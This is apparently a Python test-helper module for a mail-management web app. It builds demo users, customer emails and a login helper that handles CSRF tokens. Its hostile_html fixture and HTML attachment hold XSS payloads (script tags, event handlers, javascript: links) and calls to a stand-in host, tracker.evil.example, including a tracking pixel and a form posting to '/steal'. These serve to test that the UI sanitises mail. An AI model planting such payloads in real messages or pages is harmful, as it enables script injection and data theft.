"""Test helpers for the web UI: a small store (demo customer archive + a few mails + users)
and logging in through the real form (with its CSRF token)."""

from __future__ import annotations

import dataclasses
import re
from dataclasses import dataclass
from datetime import UTC, datetime
from email.message import EmailMessage
from email.utils import format_datetime
from pathlib import Path

from argon2 import PasswordHasher
from starlette.testclient import TestClient
from support.apptools import make_app

from mailagent.app import App
from mailagent.capture.ingest import ingest_raw
from mailagent.config import SmtpSettings
from mailagent.demo.run import import_demo_archive
from mailagent.web.users import create_user

PASSWORD = "correct horse battery"
# argon2id with small parameters: the production defaults cost ~0.15 s per hash or log-in
FAST_HASHER = PasswordHasher(time_cost=1, memory_cost=1024, parallelism=1)
USERS = {
    "lily": ("lily.chen@huaxin-pcb.com", "sales", "zh"),  # MUELLER, ANDINA, HARBOURSTAR, ...
    "kevin": ("kevin.wang@huaxin-pcb.com", "sales", "en"),  # ACME, BRIGHTWELL, TANAKA, ...
    "grace": ("grace.liu@huaxin-pcb.com", "supervisor", "en"),
    "admin": ("admin@huaxin-pcb.com", "admin", "en"),
}
REMOTE_HOST = "tracker.evil.example"


def hostile_html(remote: str = f"https://{REMOTE_HOST}") -> str:
    """An HTML mail trying every trick: scripts, handlers, javascript: links, web bugs."""
    return f"""<html><head><script>window.__pwned = 1; alert('head')</script></head>
<body onload="window.__pwned = 2">
<p>Dear Kevin, please see our <b>urgent</b> request.</p>
<img src="{remote}/pixel.gif?id=42" alt="logo" width="1" height="1">
<img src="x" onerror="window.__pwned = 3; alert('img')">
<a href="javascript:window.__pwned = 4; alert('link')">click me</a>
<svg onload="window.__pwned = 5"><script>window.__pwned = 6</script></svg>
<iframe src="{remote}/frame"></iframe>
<form action="{remote}/steal"><input name="pw"></form>
<div style="background:url({remote}/bg.png)">styled</div>
</body></html>"""


def message(
    n: int,
    sender: str,
    subject: str,
    body: str,
    *,
    html: str | None = None,
    attachment: tuple[str, str, bytes] | None = None,
) -> bytes:
    msg = EmailMessage()
    msg["From"] = sender
    msg["To"] = "sales@huaxin-pcb.com"
    msg["Subject"] = subject
    msg["Date"] = format_datetime(datetime(2026, 11, 16, 2, n, tzinfo=UTC))
    msg["Message-ID"] = f"<web-{n}@test.example>"
    msg.set_content(body)
    if html is not None:
        msg.add_alternative(html, subtype="html")
    if attachment is not None:
        name, ctype, data = attachment
        main, sub = ctype.split("/")
        msg.add_attachment(data, maintype=main, subtype=sub, filename=name)
    return msg.as_bytes()


ATTACHMENT = ("报价 <quote>.html", "text/html", b"<script>alert('attachment')</script>")


@dataclass
class Site:
    app: App
    ids: dict[str, int]  # mail name -> message pk


def build_site(
    tmp_path: Path,
    db_url: str,
    users: tuple[str, ...] = tuple(USERS),
    smtp: SmtpSettings | None = None,
    remote: str = f"https://{REMOTE_HOST}",
) -> Site:
    smtp = smtp or SmtpSettings(host="127.0.0.1", port=25, security="plain")
    smtp = dataclasses.replace(smtp, from_address="sales@huaxin-pcb.com")
    app = make_app(tmp_path, db_url, smtp=smtp)
    import_demo_archive(app)
    mails = {
        "acme": message(
            1,
            "Tom Baker <tom@acmerobotics.com>",
            "RFQ: 500 pcs HX-4L-FR4-1.6",
            "Hello Kevin,\n\nplease quote 500 pcs of HX-4L-FR4-1.6, lead time?\n\nTom",
            attachment=ATTACHMENT,
        ),
        "mueller": message(
            2,
            "Jürgen Hoffmann <j.hoffmann@mueller-elektronik.de>",
            "Bestellung 4500118999",
            "Sehr geehrte Frau Chen,\n\nanbei unsere Bestellung 4500118999 über 200 Stück.\n\n"
            "Mit freundlichen Grüßen\nJürgen Hoffmann",
        ),
        "hostile": message(
            3,
            "Tom Baker <tom@acmerobotics.com>",
            "Urgent request",
            "Dear Kevin, please see our urgent request.",
            html=hostile_html(remote),
        ),
    }
    results = ingest_raw(app, [(raw, name) for name, raw in mails.items()])
    ids = {r.origin: r.message_pk for r in results if r.message_pk is not None}
    assert set(ids) == set(mails), results
    for key in users:
        email, role, lang = USERS[key]
        create_user(app, email, PASSWORD, role=role, language=lang, display_name=key.title())
    return Site(app, ids)


def csrf_of(html: str) -> str:
    found = re.search(r'name="csrf_token" value="([^"]+)"', html)
    assert found, "page has no CSRF token"
    return found.group(1)


def login(client: TestClient, who: str, password: str = PASSWORD) -> str:
    """Log in through the form; returns the session's CSRF token."""
    token = csrf_of(client.get("/login").text)
    response = client.post(
        "/login",
        data={"email": USERS[who][0], "password": password, "csrf_token": token},
        follow_redirects=False,
    )
    assert response.status_code == 303, response.text
    return csrf_of(client.get("/inbox" if USERS[who][1] != "admin" else "/admin").text)
